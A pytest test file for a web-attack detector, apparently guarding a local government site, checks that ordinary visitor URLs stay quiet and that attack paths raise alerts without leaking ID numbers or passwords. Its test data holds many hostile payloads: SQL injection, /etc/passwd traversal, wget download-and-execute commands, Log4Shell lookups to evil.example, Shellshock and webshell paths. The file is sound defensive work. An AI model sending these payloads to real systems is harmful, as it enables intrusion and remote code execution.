"""What must not happen: what visitors of an office's site ask for looks like an attack."""

from __future__ import annotations

import secrets
from typing import Any
from urllib.parse import quote

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from collectors.network.detect.settings import DetectSettings, WebSettings
from collectors.network.detect.web import Web, decoded
from collectors.network.model import Conn, Http
from collectors.network.outward import finding
from tests.collectors.content.citizens import leaks, make_niks
from tests.collectors.network.detect.records import conn, one, outward, request


def detector(**changes: object) -> Web:
    made = one("web", DetectSettings(web=WebSettings(**changes)))  # type: ignore[arg-type]
    assert isinstance(made, Web)
    return made


@pytest.mark.parametrize(
    "path",
    [
        "/",
        "/berita/2026/11/bupati-resmikan-pasar?page=2",
        "/index.php?option=com_content&view=article&id=12&Itemid=99",
        "/wp-login.php",
        "/wp-admin/admin-ajax.php?action=heartbeat",
        "/wp-content/plugins/contact-form-7/includes/js/index.js?ver=5.9",
        "/wp-content/uploads/2026/11/foto-kegiatan.jpg",
        "/wp-json/oembed/1.0/embed?url=https%3A%2F%2Fkota.go.id%2Fberita%2F&format=xml",
        "/?s=select+a+menu+from+the+list",
        "/?s=O%27Brien+and+Sons",
        "/?s=Rock+%27n%27+Roll",
        "/?s=union+of+workers%3B+order+by+mail",
        "/cari?q=harga+%24+5+%7C+ekspor",
        "/cari?q=id+card&kelas=cat+%26+dog",
        "/login?next=https%3A%2F%2Fkota.go.id%2Fdashboard",
        "/share?u=https://www.kota.go.id/berita.php?id=3",
        "/redirect?url=https://lapor.go.id/",
        "/unduh.php?file=laporan%20(2026).pdf",
        "/a/../b.html",
        "/api/v1/items?filter=(name='x')&$top=10",
        "/api?data=%7B%22a%22%3A%5B1%2C2%5D%7D",
        "/ppid/dokumen/daftar-informasi.pdf#page=2",
        "/xmlrpc.php",
        "/cgi-bin/luci",
        "/statistik.php?c=penduduk&x=lsm",
        "/shellfish/recipes.php",
        "/search?q=how+to+use+sleep+in+php",
        "/?q=etc+dan+lain+lain",
        "/static/app.js?v=%24%7Bversion%7D",
        "/translate?langpair=en%7Cid&text=selamat",
        "/translate?langpair=en%7Cid",
        "/images/captcha.php?rnd=3",
        "/img/thumb.php?src=bupati.jpg",
        "*",
        "",
    ],
)
def test_visitors_are_quiet(path: str) -> None:
    assert [one.rule for one in detector().see(request(path))] == []


@pytest.mark.parametrize(
    "agent",
    [
        "",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "curl/8.5.0",
        "Zabbix",
        "python-requests/2.31",
        "WordPress/6.5; https://kota.go.id",
        "Mozilla/5.0 (Linux; Android 14; SM-A546E) Chrome/130.0",
    ],
)
def test_ordinary_agents_are_quiet(agent: str) -> None:
    assert list(detector().see(request("/", user_agent=agent))) == []


ATTACKS = {
    "web.sqli": [
        "/berita.php?id=1' UNION SELECT 1,2,user()--",
        "/berita.php?id=1/**/union/**/all/**/select/**/1",
        "/?id=1' or '1'='1",
        "/?id=1') or 1=1--",
        "/?id=1 and sleep(5)",
        "/?id=if(now()=sysdate(),sleep(15),0)",
        "/?id=1;waitfor delay '0:0:5'--",
        "/?id=1 and extractvalue(1,concat(0x7e,version()))",
        "/?q=select table_name from information_schema.tables",
    ],
    "web.traversal": [
        "/../../../../etc/passwd",
        "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
        "/?page=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
        "/?file=/etc/passwd",
        "/?page=php://filter/convert.base64-encode/resource=index",
        "/.env",
        "/.git/config",
        "/wp-config.php.bak",
        "/..;/manager/html",
    ],
    "web.remote_file": ["/index.php?page=http://evil.example/shell.txt?"],
    "web.command": [
        "/ping?host=127.0.0.1;cat /etc/issue",
        "/?x=$(id)",
        "/?x=`whoami`",
        "/?ip=1|wget http://evil.example/x",
        "/boaform?cmd=;wget+http://1.2.3.4/m+-O-;sh+m",
    ],
    "web.php": [
        "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array",
        "/?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/x.php?a=system('id')",
    ],
    "web.shell": [
        "/images/b374k.php?cmd=1",
        "/c99.php",
        "/foto/kegiatan/idx.phtml",
        "/x.php?cmd=id",
    ],
    "web.script": ["/wp-content/uploads/2026/11/x.php", "/dokumen/lihat.php?id=3"],
    "web.log4shell": [
        "/?x=${jndi:ldap://evil.example/a}",
        "/?x=${${lower:j}ndi:ldap://evil.example/a}",
        "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil%7D",
    ],
    "web.xss": ["/?q=<script>alert(1)</script>", "/?q=<svg/onload=alert(1)>"],
}


@pytest.mark.parametrize(("rule", "path"), [(r, p) for r, paths in ATTACKS.items() for p in paths])
def test_attacks(rule: str, path: str) -> None:
    plain = detector().see(request(path, status=404))
    assert rule in [one.rule for one in plain]
    twice = quote(quote(path, safe="/?=&"), safe="/?=&%")
    if "%" not in path and "+" not in path:
        assert rule in [one.rule for one in detector().see(request(twice, status=404))]


def test_an_answer_makes_it_worse() -> None:
    path = "/?file=../../../etc/passwd"
    (tried,) = detector().see(request(path, status=404))
    (found,) = detector().see(request(path, status=200))
    assert (tried.severity, found.severity) == ("low", "high")
    (ours,) = detector().see(request(path, status=404, conn=outward(port=80)))
    assert ours.severity == "high"


def levels(path: str, size: int, made: Web, which: Conn | None = None) -> list[str]:
    more: dict[str, Any] = {"conn": which} if which else {}
    found = made.see(request(path, status=200, response_bytes=size, **more))
    return [one.severity for one in found]


def test_a_server_that_answers_everything_with_its_first_page_is_not_broken() -> None:
    made = detector()
    assert levels("/", 18_300, made) == []
    for path in (
        "/.env",
        "/index.php?s=/\\think\\app/invokefunction",
        "/?x=;wget http://a.example/m",
    ):
        assert set(levels(path, 18_211, made)) <= {"low", "medium"}, path
    assert levels("/.env", 412, made) == ["high"], "another answer"


def test_a_first_page_of_several_forms() -> None:
    made = detector()
    for size in (18_000, 9000, 12_000, 18_010):
        levels("/", size, made)
    for n, size in enumerate((9010, 18_020, 12_005)):
        path = f"/?a=fetch&content=<?php die(@md5({n}))?>"
        assert levels(path, size, made, conn(f"203.0.113.{n}", port=80)) == ["medium"]


def test_a_parameter_that_is_ignored_is_no_way_in() -> None:
    made = detector()
    assert levels("/berita.php?id=4", 9000, made) == []
    assert levels("/berita.php?id=../../../etc/passwd", 9010, made) == ["low"]
    assert levels("/berita.php?id=../../../../etc/passwd", 1800, made) == ["high"]


def test_the_same_answer_to_other_attacks_says_nothing() -> None:
    made = detector()
    levels("/.env", 700, made)
    assert levels("/.git/config", 700, made) == ["low"]


def test_whether_a_look_up_worked_is_not_in_the_answer() -> None:
    assert levels("/?x=${jndi:ldap://evil.example/a}", 900, detector()) == ["medium"]


def test_scripts_of_the_application_are_told_once() -> None:
    made = detector()
    assert levels("/uploads/view.php?id=1", 900, made) == ["high"]
    for n in range(2, 9):
        which = conn(f"203.0.113.{n}", port=80)
        assert levels(f"/uploads/view.php?id={n}", 900 + 100 * n, made, which) == []
    assert levels("/dokumen/lihat.php?id=1", 900, made) == ["low"]
    assert levels("/files/download.php", 50, made, outward(port=80)) == ["low"]


@pytest.mark.parametrize(
    ("agent", "rule"),
    [
        ("sqlmap/1.8#stable (https://sqlmap.org)", "web.scanner"),
        ("Mozilla/5.0 (compatible; Nmap Scripting Engine)", "web.scanner"),
        ("${jndi:ldap://x/a}", "web.log4shell"),
        ("() { :; }; /bin/bash -c id", "web.command"),
    ],
)
def test_agents(agent: str, rule: str) -> None:
    made = detector()
    assert [one.rule for one in made.see(request("/", user_agent=agent))] == [rule]
    assert [one.numbers["tries"] for one in made.see(request("/", user_agent=agent))] == [2.0]


def test_a_reference_with_a_look_up() -> None:
    found = detector().see(request("/", referrer="%24%7Bjndi:ldap://x%7D"))
    assert [one.rule for one in found] == ["web.log4shell"]


@given(st.text(max_size=300), st.text(max_size=100))
def test_never_raises(path: str, agent: str) -> None:
    detector().see(request(path, user_agent=agent, referrer=path))


@pytest.mark.parametrize(
    "piece",
    [
        "(",
        "'",
        "%27",
        "select ",
        "../",
        "union ",
        "${",
        "or ",
        "eval(",
        "a.php?",
        "/x",
        "<img ",
        "sleep (",
    ],
)
@pytest.mark.timeout(10)
def test_long_hostile_targets_take_no_long_time(piece: str) -> None:
    path = "/?" + piece * (4096 // len(piece))
    for _ in range(3):
        detector().see(request(path))  # a quadratic pattern would run into the limit


def test_decoding() -> None:
    assert decoded("/%2541") == "/a"
    assert decoded("a+B") == "a b"
    assert len(decoded("x" * 99_999)) == 4096


def test_state_is_bounded() -> None:
    made = detector(sources=20)
    for n in range(500):
        which = conn(f"203.0.{n // 250}.{n % 250}", port=80)
        made.see(request("/.env", conn=which, user_agent=f"agent {n}"))
    assert len(made._tries) <= 20
    assert len(made._agents) <= 20
    assert len(made._sizes) + len(made._probes) + len(made._scripts) <= 60
    assert made.evicted() > 0


def told(record: Http) -> bytes:
    """What leaves the child because of a request."""
    return msgspec.json.encode([finding(one).record for one in detector().see(record)])


@pytest.mark.parametrize("path", [path for paths in ATTACKS.values() for path in paths])
@pytest.mark.parametrize("before", [0, 190, 245, 4070])
def test_the_evidence_holds_no_ones_number_or_password(path: str, before: int) -> None:
    secret = secrets.token_hex(8)
    nik = make_niks(1, seed=before)[0]
    mark = "&" if "?" in path else "?"
    long = f"{path}{mark}x={'a' * before}{nik}&password={secret}&{nik}=1"
    early = path.replace("?", f"?u={nik}&pass[]={secret}&", 1) if "?" in path else path
    inside = f"/{'a' * before}/{nik}{path}"
    for target in (long, early, inside):
        said = told(request(target, referrer=target, forwarded_for=f"{nik}, {nik}"))
        assert b"texts" in said or target is inside  # there it may lie behind what is kept
        assert not leaks(nik, said), said
        assert not leaks(secret, said), said


def test_the_evidence_says_what_was_asked_for_and_what_is_wrong_with_it() -> None:
    (found,) = detector().see(request("/unduh?berkas=../../../etc/passwd&u=budi"))
    assert found.texts == ("kota.go.id/unduh?berkas&u", "../../../")
